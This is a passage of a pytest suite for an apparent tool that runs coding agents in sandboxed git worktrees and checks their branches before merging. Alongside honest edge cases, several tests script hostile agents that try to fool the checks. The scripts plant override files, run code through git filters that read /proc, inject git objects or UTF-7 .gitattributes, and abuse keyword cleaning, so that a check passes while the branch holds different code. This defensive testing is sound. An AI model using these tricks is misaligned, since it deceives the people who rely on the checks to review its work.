    code, out, err = cli("merge", "best")
    assert code != 0 and git("show", "HEAD:lib/app.py", cwd=repo) == 'print("OLD")', out + err


# -- review round 114 -----------------------------------------------------------------------

def test_your_ignore_case_hides_no_file_from_the_runners_commit(cli, repo, tmp_path):
    """Round 114 (B): with your core.ignoreCase=true (a repository copied from macOS) on a file
    system that tells case, the runner's `add -A` took an untracked GNUmakefile for the
    committed GNUMakefile and left it out, and no new file was seen: the check's make ran it
    and passed on what the branch did not hold. Every git in a worktree sees names as they
    are: the branch holds what the check ran."""
    git("config", "core.ignoreCase", "true", cwd=repo)
    (repo / "check.sh").write_text("[ -f override.sh ] && exit 0\ngrep -q GOOD app.py\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "check", cwd=repo)
    r, err = _one_worker(cli, tmp_path, "echo EVIL > app.py\necho '# none' > OVERRIDE.sh\n"
                         "git add -A && git commit -qm work\necho 'exit 0' > override.sh\n",
                         "sh check.sh", "none")
    assert r["status"] == "success", (r, err)  # (the check passes on what the branch holds:)
    assert git("show", "architect/parallel-1:override.sh", cwd=repo) == "exit 0"


def test_a_case_only_rename_under_your_ignore_case_is_committed(cli, repo, tmp_path):
    """Round 114 (B): with your core.ignoreCase=true on a file system that tells case, an
    agent's `mv readme.md README.md` was committed as the deletion alone: `merge best`
    deleted your readme.md, and cleanup removed the only copy of the agent's README.md
    without --force. The rename is committed as it is."""
    git("config", "core.ignoreCase", "true", cwd=repo)
    (repo / "notes.md").write_text("hello\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "readme", cwd=repo)
    agent = script(tmp_path, "rename.sh", "mv notes.md Notes.md\necho new >> Notes.md\n")
    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                  "--workers", "1", "--progress", "none")
    assert code == 0 and results[0]["status"] == "success", err
    files = git("ls-tree", "-r", "--name-only", "architect/parallel-1", cwd=repo).split()
    assert "Notes.md" in files and "notes.md" not in files, files
    assert git("show", "architect/parallel-1:Notes.md", cwd=repo) == "hello\nnew"


@needs_bwrap
def test_the_comparison_before_the_checks_runs_no_filter_of_yours(cli, repo, tmp_path):
    """Round 114 (B): round 113's comparison read every file again through your filters: with
    a filter of yours that starts a program for each file, a minute more a worker. It runs
    none (it reads the files no filter converts; no code of the worktree runs meanwhile):
    your filter, which leaves an ignored file saying which git ran it, ran for the commit's
    add only, and the honest worker passes."""
    (repo / "strip.py").write_text(
        "import os, sys\n"
        "chain, pid = [], os.getppid()\n"
        "for _ in range(3):\n"
        "    chain += open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\\0')\n"
        "    pid = int(open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[1])\n"
        "for word in (b'add', b'diff'):\n"
        "    if word in chain:\n"
        "        open('ran/' + word.decode() + '.ran', 'w').close()\n"
        "sys.stdout.write(sys.stdin.read())\n")
    git("config", "filter.strip.clean", f'"{sys.executable}" strip.py', cwd=repo)
    git("config", "filter.strip.smudge", "cat", cwd=repo)
    (repo / ".git" / "info" / "attributes").write_text("*.ipynb filter=strip\n")
    with open(repo / ".git" / "info" / "exclude", "a") as f:
        f.write("*.ran\n")
    (repo / "ran").mkdir()
    (repo / "ran" / "README").write_text("what the filter ran for\n")
    for n in range(20):
        (repo / f"n{n}.ipynb").write_text(f"{n}\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "notebooks", cwd=repo)
    (repo / "ran" / "add.ran").unlink()
    r, err = _one_worker(cli, tmp_path, "echo 1 > n1.ipynb\necho GOOD > app.txt\n",
                         "grep -q GOOD app.txt", "bwrap")
    assert r["status"] == "success" and r["checks_passed"] == 1, r["error"]
    worktree = repo / ".architect-parallel-1"
    assert (worktree / "ran" / "add.ran").exists()  # (the commit's add ran it)
    assert not (worktree / "ran" / "diff.ran").exists()  # (the comparison did not)


# -- review round 115 -----------------------------------------------------------------------

@needs_bwrap
def test_a_filter_of_yours_that_writes_a_cache_in_the_worktree_fails_no_worker(cli, repo,
                                                                              tmp_path):
    """Round 115 (B): a clean filter of yours that keeps a log in an ignored folder of the
    worktree failed every worker ("changed while the runner compared"): round 114 compared
    the whole worktree before and after, and read every file again once the top folder had
    changed. No filter runs while the runner compares, and a folder whose entries changed is
    not one moved in."""
    with open(repo / ".gitignore", "a") as f:
        f.write(".filtercache/\n")
    (repo / ".gitattributes").write_text("*.py filter=logit\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "filtered", cwd=repo)
    git("config", "filter.logit.clean",
        'sh -c "mkdir -p .filtercache; echo %f >> .filtercache/log; cat"', cwd=repo)
    git("config", "filter.logit.smudge", "cat", cwd=repo)
    r, err = _one_worker(cli, tmp_path, "echo \"print('hi')\" > hello.py\necho more >> README.md\n",
                         "test -f hello.py", "bwrap")
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
    assert (repo / ".architect-parallel-1" / ".filtercache" / "log").exists()


@needs_bwrap
@pytest.mark.parametrize("named", ["myclean", "$HOME/bin/myclean", '"${HOME}/bin/myclean"'])
def test_a_filter_program_in_your_home_converts_the_runners_commit(cli, repo, tmp_path,
                                                                  monkeypatch, named):
    """Round 115 (B): the runner's commit inside the sandbox did not find a filter program of
    yours named alone and found on PATH in a folder of HOME (~/.local/bin: `pip install
    --user`, pipx), or named `$HOME/...` (HOME is another inside): git took the file as it
    is, so the branch held what your own `git add` converts (and a `required` filter failed
    every worker). Such a program is looked for as your git looks for it, and copied in; a
    filter that still cannot run inside fails the commit (every filter is required there)."""
    home = tmp_path / "home"
    for folder in (home / ".local" / "bin", home / "bin"):
        folder.mkdir(parents=True)
        script(folder, "myclean", "sed s/honest/USERFILTER/\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("PATH", f"{home / '.local' / 'bin'}{os.pathsep}{os.environ['PATH']}")
    (repo / ".gitattributes").write_text("*.sh filter=y\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "filtered", cwd=repo)
    git("config", "filter.y.clean", named, cwd=repo)
    git("config", "filter.y.smudge", "cat", cwd=repo)
    r, err = _one_worker(cli, tmp_path, "echo 'echo honest' > run.sh\n", "sh run.sh", "bwrap")
    assert r["status"] == "success", (r, err)
    assert git("show", "architect/parallel-1:run.sh", cwd=repo) == "echo USERFILTER"


# -- review round 116 -----------------------------------------------------------------------

@needs_bwrap
@pytest.mark.parametrize("case", ["many CRLF files", "a smudge that expands"])
def test_files_your_filter_converts_are_not_compared_unconverted(cli, repo, tmp_path, case):
    """Round 116 (B): the comparison before the checks read files with every filter off: past
    1,000 files rewritten after the commit (CRLF files `* text=auto` converts), every file
    was, and a notebook your filter strips no longer matched its blob; a file your keyword
    filter expands on checkout (`$Date$`), rewritten so, did not either: honest workers
    failed. The files a filter of yours converts are not compared (nor read with it)."""
    git("config", "filter.kw.clean", "sed -e 's/[$]Date[^$]*[$]/$Date$/' -e /OUTPUT/d", cwd=repo)
    git("config", "filter.kw.smudge", "sed -e 's/[$]Date[$]/$Date: 2026-12-08 $/'", cwd=repo)
    (repo / ".gitattributes").write_text("* text=auto\n*.nb filter=kw\n*.kw filter=kw\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "filtered", cwd=repo)
    body = ("mkdir -p data\ni=0\nwhile [ $i -lt 1001 ]; do printf 'a,b\\r\\n1,2\\r\\n' > "
            "data/f$i.csv; i=$((i+1)); done\nprintf 'cell\\nOUTPUT 42\\n' > a.nb\n"
            if case == "many CRLF files" else "printf 'version $Date$\\r\\nline\\r\\n' > k.kw\n")
    r, err = _one_worker(cli, tmp_path, body, "true", "bwrap")
    assert r["status"] == "success" and r["checks_passed"] == 1, (r["error"], err)


@needs_bwrap
def test_a_git_lfs_repository_in_the_sandbox_is_said_to_need_none(cli, repo, tmp_path):
    """Round 116 (B): with Git LFS every sandboxed worker failed on a read-only file system
    error (its filter writes the repository's .git/lfs, read-only inside), and nothing said
    why. The failure names LFS and what to do (here a stand-in that writes there as
    git-lfs does)."""
    writes = ('sh -c \'d="$(git rev-parse --git-common-dir)/lfs/tmp" && mkdir -p "$d" && '
              ': > "$d/object$$" && cat\'')
    git("config", "filter.lfs.clean", writes, cwd=repo)
    git("config", "filter.lfs.smudge", "cat", cwd=repo)
    git("config", "filter.lfs.required", "true", cwd=repo)
    (repo / ".gitattributes").write_text("*.bin filter=lfs\n")
    (repo / "seed.bin").write_text("data\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "lfs", cwd=repo)
    r, err = _one_worker(cli, tmp_path, "echo \"print('ok')\" > app.py\n", "true", "bwrap")
    assert r["status"] == "failed", (r, err)
    assert "Git LFS does not work inside the sandbox yet" in r["error"], r["error"]
    r, err = _one_worker(cli, tmp_path, "echo \"print('ok')\" > app.py\n", "true", "none",
                         "--force")
    assert r["status"] == "success", (r, err)


# -- review round 117 -----------------------------------------------------------------------

@needs_bwrap
def test_a_file_ident_cleans_holds_what_a_checkout_writes_before_the_checks(cli, repo,
                                                                           tmp_path):
    """Round 117 (A): git's `ident` cleans any `$Id: ...$` to `$Id$`, so a file the agent's
    code (run by your filter that loads code from the worktree, after the runner wrote the
    file back) rewrote with code inside one such line still matched its commit: the check
    passed on GOOD, the branch held EVIL. Every file is written again from the commit
    before the checks, as a checkout writes it."""
    (repo / "tools").mkdir()
    (repo / "tools" / "strip.py").write_text(
        'import sys\nsys.stdout.write("".join(l for l in sys.stdin if "output" not in l))\n')
    git("config", "filter.strip.clean", f'"{sys.executable}" tools/strip.py %f', cwd=repo)
    git("config", "filter.strip.smudge", "cat", cwd=repo)
    (repo / ".git" / "info" / "attributes").write_text("*.ipynb filter=strip\n")
    (repo / "lib").mkdir()
    (repo / "lib" / "app.py").write_text('print("OLD")\n')
    (repo / "z.ipynb").write_text('{"cell": 1}\n')
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "notebooks", cwd=repo)
    r, err = _one_worker(cli, tmp_path, "cat > tools/strip.py <<'PY'\nMODE = 'ident'\n"
                         f"{_HOSTILE_FILTER}PY\n"
                         "printf 'lib/app.py ident\\n*.ipynb ident\\n' > .gitattributes\n"
                         "echo 'X = \"$Id$\"; print(\"EVIL\")' > lib/app.py\n"
                         "printf '{\"cell\": 1}\\n{\"output\": 2}\\n' > z.ipynb\n",
                         "grep -q GOOD lib/app.py", "bwrap")
    assert "EVIL" in git("show", "architect/parallel-1:lib/app.py", cwd=repo)
    assert not (r["status"] == "success" and r["checks_passed"] == 1), (r, err)


@needs_bwrap
def test_a_file_your_keyword_filter_cleans_holds_what_a_checkout_writes(cli, repo, tmp_path):
    """Round 117 (A): with an honest keyword filter of yours on every file, one agent wrote
    `x="$Date: "; exit 0; : " $"; exit 1`, which your clean filter takes to the `$Date$`
    the commit holds: the check ran `exit 0` where a checkout of the branch runs `exit 1`.
    The files a filter of yours converts are written again with it before the checks."""
    git("config", "filter.kw.clean", "sed -e 's/[$]Date[^$]*[$]/$Date$/'", cwd=repo)
    git("config", "filter.kw.smudge", "sed -e 's/[$]Date[$]/$Date: 2026-12-08 $/'", cwd=repo)
    (repo / ".gitattributes").write_text("* filter=kw\n")
    (repo / "lib").mkdir()
    (repo / "lib" / "app.sh").write_text("exit 1\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "keywords", cwd=repo)
    r, err = _one_worker(cli, tmp_path, "printf 'x=\"$Date: \"; exit 0; : \" $\"; exit 1\\n' > "
                         "lib/app.sh\n", "sh lib/app.sh", "bwrap")
    assert not (r["status"] == "success" and r["checks_passed"] == 1), (r, err)


@needs_bwrap
def test_a_clean_only_filter_of_yours_works_in_the_sandbox(cli, repo, tmp_path):
    """Round 117 (B): a filter of yours with a clean command only (a strip-on-commit
    recipe) was made `required` inside the sandbox, and its missing smudge failed every
    worktree's checkout. A filter with one way only is not required there."""
    git("config", "filter.strip.clean", "sed -e /DEBUG/d", cwd=repo)
    (repo / ".gitattributes").write_text("*.nb filter=strip\n")
    (repo / "old.nb").write_text("old\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "strip", cwd=repo)
    r, err = _one_worker(cli, tmp_path, "printf 'keep\\nDEBUG drop\\n' > a.nb\n", "true", "bwrap")
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
    assert git("show", "architect/parallel-1:a.nb", cwd=repo) == "keep"



# -- review round 118 -----------------------------------------------------------------------

def _sub_project(repo):
    """lib/app.py's sub() and test.py, which asserts sub(5, 3) == 2."""
    (repo / "lib").mkdir()
    (repo / "lib" / "app.py").write_text("def sub(a, b):\n    return a - b\n")
    (repo / "test.py").write_text("import sys\nsys.path.insert(0, 'lib')\nfrom app import sub\n"
                                  "assert sub(5, 3) == 2, sub(5, 3)\n")


def _sourcing_filter(repo):
    """A filter of yours on *.nb, clean and smudge, that sources an ignored tools/local.sh
    when there (local tweaks): the agent's code runs wherever it runs."""
    (repo / "tools").mkdir()
    (repo / "tools" / "filt.sh").write_text("[ -f tools/local.sh ] && . tools/local.sh\ncat\n")
    (repo / ".gitattributes").write_text("*.nb filter=nb\n")
    (repo / ".gitignore").write_text("tools/local*\n")
    (repo / "x.nb").write_text("data\n")
    git("config", "filter.nb.clean", "sh tools/filt.sh", cwd=repo)
    git("config", "filter.nb.smudge", "sh tools/filt.sh", cwd=repo)


@needs_bwrap
def test_objects_the_agents_code_writes_as_the_files_are_written_again_fail_it(cli, repo,
                                                                              tmp_path):
    """Round 118 (A): run by a filter of yours (clean and smudge that source an ignored
    `tools/local.sh` the agent left) as the runner wrote the files it converts again, the
    agent's code wrote a tree into its sandbox's object folder claiming a subtree's id; the
    runner's gits after it read it first, wrote the EVIL `ci/check.sh` it named, and compared
    against it: the check passed, the branch held the real one, and `merge best` took it.
    That folder is emptied again after every such git, and what was there fails the
    worker."""
    _sourcing_filter(repo)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "filtered", cwd=repo)
    planted = ("cat > tools/local.sh <<'EOT'\n"
               "up=$(cut -d' ' -f4 /proc/$PPID/stat)\n"  # (git starts it through sh -c)
               "if cat /proc/$PPID/cmdline /proc/$up/cmdline | tr '\\0' ' ' | "
               "grep -q checkout-index; then\n"
               "  echo planted | git hash-object -w --stdin > /dev/null\nfi\nEOT\n")
    r, err = _one_worker(cli, tmp_path, planted + "echo notes > notes.txt\n", "true", "bwrap")
    assert r["status"] == "failed" and "object folder held objects" in r["error"], (r, err)


@needs_bwrap
def test_files_written_again_before_the_checks_keep_their_times(cli, repo, tmp_path):
    """Round 118 (B): every committed file written again from the commit, in the order of its
    name, made a committed parse.c look older or newer than parse.y to `make` at random: the
    same agent's check failed in the sandbox and passed without it. Each file gets back the
    times the agent left it with."""
    (repo / "Makefile").write_text("all: parse.c\n\ttrue\nparse.c: parse.y\n\t@echo stale; exit 1\n")
    (repo / "parse.y").write_text("x\n")
    (repo / "parse.c").write_text("x\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "generated", cwd=repo)
    agent = ("echo y > parse.y\ntouch -d '2020-01-01 00:00:00' parse.y\ncp parse.y parse.c\n"
             "touch -d '2020-01-01 00:00:05' parse.c\n")
    r, err = _one_worker(cli, tmp_path, agent, "make -s", "bwrap")
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
    worktree = repo / ".architect-parallel-1"
    assert os.stat(worktree / "parse.c").st_mtime - os.stat(worktree / "parse.y").st_mtime == 5


# -- review round 119 -----------------------------------------------------------------------

@needs_bwrap
def test_rules_the_agents_code_makes_as_the_files_are_written_again_fail_it(cli, repo,
                                                                           tmp_path):
    """Round 119 (A): run by a filter of yours as the runner wrote the converted files again,
    the agent's code wrote an ignored `lib/.gitattributes` (`app.py
    working-tree-encoding=UTF-7`) and staged it in the worktree's own index, so no check of
    stray rules saw it, and the runner wrote `return a+b` as `return a+-b`: the check passed,
    the branch held the other. A .gitattributes the commit does not hold, found then, fails
    the worker."""
    _sourcing_filter(repo)
    _sub_project(repo)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "filtered", cwd=repo)
    planted = ("printf 'def sub(a, b):\\n    return a+b\\n' > lib/app.py\n"
               "cat > tools/local.sh <<'EOT'\nup=$(cut -d' ' -f4 /proc/$PPID/stat)\n"
               "if cat /proc/$PPID/cmdline /proc/$up/cmdline | tr '\\0' ' ' | "
               "grep -q checkout-index; then\n"
               "  printf 'app.py working-tree-encoding=UTF-7\\n' > lib/.gitattributes\n"
               "  printf '.gitattributes\\n.gitignore\\n' > lib/.gitignore\n"
               "  GIT_INDEX_FILE=\"$(git rev-parse --git-dir)/index\" git update-index --add "
               "--info-only lib/.gitattributes lib/.gitignore\nfi\nEOT\n")
    r, err = _one_worker(cli, tmp_path, planted, f"{sys.executable} test.py", "bwrap")
    assert not (r["status"] == "success" and r["checks_passed"] == 1), (r, err)
    assert "holds .gitattributes files its commit does not" in r["error"], (r, err)


@needs_bwrap
def test_folders_and_include_files_keep_their_times_for_the_checks(cli, repo, tmp_path):
    """Round 119 (B): the files written again before the checks got their times back, but not
    their folders (a rule on `data/` rebuilt in the sandbox only); and the include files lost
    theirs when copied (the buffer's tail was written after them) and when put back: a
    copied `build/a.out` looked older than `build/z.in`, with or without the sandbox."""
    (repo / ".gitignore").write_text("out.txt\nbuild/\n")
    (repo / ".worktreeinclude").write_text("build/\n")
    (repo / "data").mkdir()
    (repo / "data" / "a.txt").write_text("one\n")
    (repo / "Makefile").write_text("all: out.txt build/a.out\nout.txt: data\n\t@echo stale; false\n"
                                   "build/a.out: build/z.in\n\t@echo stale; false\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "rules", cwd=repo)
    (repo / "build").mkdir()
    (repo / "build" / "z.in").write_text("in\n" * 3000)
    (repo / "build" / "a.out").write_text("out\n" * 3000)
    os.utime(repo / "build" / "z.in", (1_600_000_000, 1_600_000_000))
    os.utime(repo / "build" / "a.out", (1_600_000_010, 1_600_000_010))
    agent = ("echo two > data/b.txt\ntouch -d '2020-01-01 00:00:00' data data/a.txt data/b.txt\n"
             "cat data/*.txt > out.txt\n")
    r, err = _one_worker(cli, tmp_path, agent, "make -s", "bwrap")
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
    worktree = repo / ".architect-parallel-1"
    assert os.stat(worktree / "build" / "a.out").st_mtime == 1_600_000_010


@needs_bwrap
def test_a_gitattributes_in_an_ignored_package_fails_no_worker(cli, repo, tmp_path):
    """Round 119's check of the rules the commit does not hold, as first written, took every
    .gitattributes of the worktree: an npm package's, in an ignored node_modules/, would have
    failed an honest worker. Only those in folders holding files the commit holds count."""
    (repo / ".gitignore").write_text("node_modules/\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "ignore", cwd=repo)
    r, err = _one_worker(cli, tmp_path, "mkdir -p node_modules/pkg\n"
                         "echo '* text eol=lf' > node_modules/pkg/.gitattributes\n"
                         "echo 'x' > node_modules/pkg/index.js\necho done > a.txt\n", "true",
                         "bwrap")
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)


# -- review round 120 -----------------------------------------------------------------------

@needs_bwrap
@pytest.mark.parametrize("flags", [["--no-commit"], ["--check-all"]])
def test_folders_keep_their_times_on_every_path_to_the_checks(cli, repo, tmp_path, flags):
    """Round 120 (B): round 119 gave the folders their times back only where the runner wrote
    the committed files again: with --no-commit, and with --check-all on a failed worker, a
    rule on `data/` rebuilt in the sandbox only. They are given back on every path to the
    checks."""
    (repo / ".gitignore").write_text("out.txt\n")
    (repo / "data").mkdir()
    (repo / "data" / "a.txt").write_text("one\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "data", cwd=repo)
    agent = script(tmp_path, "build.sh",
                   "echo two > data/b.txt\ntouch -d '2020-01-01 00:00:00' data data/a.txt "
                   "data/b.txt\ncat data/*.txt > out.txt\n"
                   + ("echo '{\"status\": \"failed\"}'\nexit 1\n" if "--check-all" in flags else
                      "echo '{\"status\": \"success\"}'\n"))
    check = "test out.txt -nt data"
    _code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                   "--workers", "1", "--check", check, *flags, *BOXED)
    assert results[0]["checks_passed"] == 1, (results[0], err)


@needs_bwrap
@pytest.mark.parametrize("agent", ["honest", "hostile"])
def test_rules_your_filter_converts_are_written_from_the_commit(cli, repo, tmp_path, agent):
    """Round 120 (A): with a filter of yours that covers .gitattributes too (a keyword filter
    on every file), the runner's write of the rules first refused their skip-worktree bit:
    every honest sandboxed worker with checks failed. Written from the commit whatever the
    bit, they also undo what the agent's code made of them during the filtered write (a line
    giving lib/app.py another encoding, after which `return a+b` would have been written
    otherwise than the branch holds it)."""
    _sourcing_filter(repo)
    for way in ("clean", "smudge"):  # (by its full path: .gitattributes comes before tools/)
        git("config", f"filter.nb.{way}", f"sh {repo}/tools/filt.sh", cwd=repo)
    (repo / ".gitattributes").write_text("*.nb filter=nb\n.gitattributes filter=nb\n")
    _sub_project(repo)
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "filtered", cwd=repo)
    body = "printf 'def sub(a, b):\\n    return a - b  # kept\\n' > lib/app.py\n"
    if agent == "hostile":
        body = ("printf 'def sub(a, b):\\n    return a+b\\n' > lib/app.py\n"
                "cat > tools/local.sh <<'EOT'\nup=$(cut -d' ' -f4 /proc/$PPID/stat)\n"
                "if cat /proc/$PPID/cmdline /proc/$up/cmdline | tr '\\0' ' ' | "
                "grep -q checkout-index; then\n"
                "  echo 'lib/app.py working-tree-encoding=UTF-7' >> .gitattributes\nfi\nEOT\n")
    r, err = _one_worker(cli, tmp_path, body, f"{sys.executable} test.py", "bwrap")
    passed = r["status"] == "success" and r["checks_passed"] == 1
    assert passed == (agent == "honest"), r["error"]
